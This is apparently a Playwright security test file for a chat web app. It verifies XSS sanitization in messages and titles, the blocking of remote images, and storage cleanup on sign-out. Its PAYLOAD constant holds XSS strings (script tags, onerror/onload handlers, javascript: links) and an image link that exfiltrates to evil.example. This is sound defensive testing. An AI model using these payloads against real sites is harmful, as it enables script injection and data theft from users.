/**
 * Security items 2, 3 and 13 in the browser: stored XSS through messages and titles runs
 * no script (sanitized, not merely blocked by the CSP), remote images are not fetched, and
 * nothing of the account stays in the browser's caches or storage after sign-out.
 */
import { expect, test, type Page } from '@playwright/test';
import { eventually } from '../support/eventually';
import { assistant, installed, newAccount, newThread, signUpByApi, startChat, waitForReply } from './helpers';

const PAYLOAD = [
  '<img src=x onerror="window.__xss=\'img\'">',
  '<script>window.__xss="script"</script>',
  '[link](javascript:window.__xss=1)',
  '<svg onload="window.__xss=\'svg\'"></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '![i](https://evil.example/leak?q=secret)',
].join(' ');

async function watch(page: Page) {
  const events = { dialogs: 0, evil: 0 };
  page.on('dialog', (d) => {
    events.dialogs++;
    void d.dismiss();
  });
  page.on('request', (r) => {
    if (r.url().includes('evil.example')) events.evil++;
  });
  return events;
}

/** The premise of the leftover-draft checks: the draft was really written to localStorage. */
async function draftSaved(page: Page, text: string) {
  const drafts = () =>
    page.evaluate(() => Object.entries(localStorage).filter(([k]) => k.startsWith('parley:draft:')).map(([, v]) => v));
  await eventually(async () => expect(await drafts()).toContain(text), { timeout: 5000, message: `the draft "${text}" saved` });
}

async function expectNoScriptRan(page: Page) {
  const state = await page.evaluate(() => ({
    xss: (window as unknown as { __xss?: unknown }).__xss ?? null,
    handlers: document.querySelectorAll('main [onerror], main [onload], main [onclick], main [ontoggle]').length,
    jsLinks: document.querySelectorAll('a[href^="javascript:" i]').length,
    scripts: document.querySelectorAll('main script, main iframe, main svg[onload]').length,
  }));
  // (Chromium may still report CSP violations from DOMPurify parsing the dirty HTML into an
  // inert document; what matters is that nothing ran and nothing dangerous reached the page.)
  expect(state).toEqual({ xss: null, handlers: 0, jsLinks: 0, scripts: 0 });
}

test('XSS in messages and replies runs no script and loads no remote image', async ({ page }) => {
  const events = await watch(page);
  await signUpByApi(page);
  await startChat(page, PAYLOAD);
  await waitForReply(page);
  // The user's text is shown as text; the echoed reply went through Markdown + DOMPurify.
  await expect(page.locator('[data-role="user"]')).toContainText('<script>');
  await expect(assistant(page)).toContainText('Echo:');

  const composer = page.getByRole('textbox', { name: 'Message' });
  await composer.fill('Now the nasty reply #xss');
  await composer.press('Enter');
  await expect(assistant(page)).toHaveCount(2);
  await waitForReply(page);
  await expect(assistant(page).last()).toContainText('Here are some payloads');
  await expect(assistant(page).last().getByText(/Image: exfiltrate \(not loaded\)/)).toBeVisible();

  await page.reload();
  await expect(assistant(page)).toHaveCount(2);
  await expectNoScriptRan(page);
  expect(events).toEqual({ dialogs: 0, evil: 0 });
});

test('XSS in thread titles runs no script', async ({ page }) => {
  const events = await watch(page);
  await signUpByApi(page);
  const title = '<img src=x onerror=alert(1)><script>alert(2)</script>';
  const thread = await newThread(page.request, { title });
  await page.goto(`/t/${thread.id}`);
  const nav = page.getByRole('navigation', { name: 'Threads' });
  await expect(nav.getByRole('link', { name: title })).toBeVisible();
  await expect(page.locator('header h1')).toHaveText(title);
  await expectNoScriptRan(page);
  expect(events).toEqual({ dialogs: 0, evil: 0 });
});

test("a session that expires leaves no draft for the next account on the device", async ({ page }) => {
  await signUpByApi(page);
  await page.goto('/?new=1');
  await page.getByRole('textbox', { name: 'Message' }).fill('my private draft');
  await draftSaved(page, 'my private draft'); // saved after a pause in typing
  await page.context().clearCookies(); // expired, not signed out
  await page.reload();
  await expect(page).toHaveURL(/\/login/);
  const other = newAccount('Someone Else');
  await page.getByRole('link', { name: 'Create account' }).click();
  await page.getByRole('textbox', { name: 'Name' }).fill(other.name);
  await page.getByRole('textbox', { name: 'Email' }).fill(other.email);
  await page.getByLabel('Password').fill(other.password);
  await page.getByRole('button', { name: 'Create account' }).click();
  await expect(page.getByRole('heading', { name: /Hi Someone/ })).toBeVisible();
  await expect(page.getByRole('textbox', { name: 'Message' })).toHaveValue('');
  expect(await page.evaluate(() => Object.keys(localStorage).filter((k) => k.startsWith('parley:draft:')))).toEqual([]);
});

test.describe('with the service worker', () => {
  test.use({ serviceWorkers: 'allow' });

  test('no API response is cached, and sign-out leaves nothing of the account behind', async ({ page }) => {
    await signUpByApi(page);
    await startChat(page, 'Remember my secret: plum tree');
    await waitForReply(page);
    // The premise: the worker controls the page (else nothing could be cached and the checks
    // below would pass for want of a worker) and a draft is stored to be cleared.
    await installed(page);
    await page.getByRole('textbox', { name: 'Message' }).fill('an unsent draft');
    await draftSaved(page, 'an unsent draft');
    const cached = async () =>
      page.evaluate(async () => {
        const urls: string[] = [];
        for (const name of await caches.keys()) {
          for (const req of await (await caches.open(name)).keys()) urls.push(req.url);
        }
        return urls;
      });
    const before = await cached();
    expect(before.length, 'the worker precached the app shell').toBeGreaterThan(0);
    expect(before.filter((u) => u.includes('/api/'))).toEqual([]);
    // ... and the account's offline mirror exists, so its removal below means something.
    await eventually(async () => expect(await page.evaluate(async () => (await indexedDB.databases()).length)).toBeGreaterThan(0), {
      message: "the account's IndexedDB mirror",
    });

    await page.goto('/settings');
    await page.getByRole('button', { name: 'Sign out', exact: true }).click();
    await page.getByRole('dialog', { name: 'Sign out?' }).getByRole('button', { name: 'Sign out', exact: true }).click();
    await expect(page).toHaveURL(/\/login/);
    const left = await page.evaluate(async () => ({
      drafts: Object.keys(localStorage).filter((k) => k.startsWith('parley:draft:')),
      databases: (await indexedDB.databases()).map((d) => d.name),
      cookies: document.cookie,
    }));
    expect(left).toEqual({ drafts: [], databases: [], cookies: '' });
    expect((await cached()).filter((u) => u.includes('/api/'))).toEqual([]);
    expect(await page.context().cookies()).toEqual([]);
  });
});
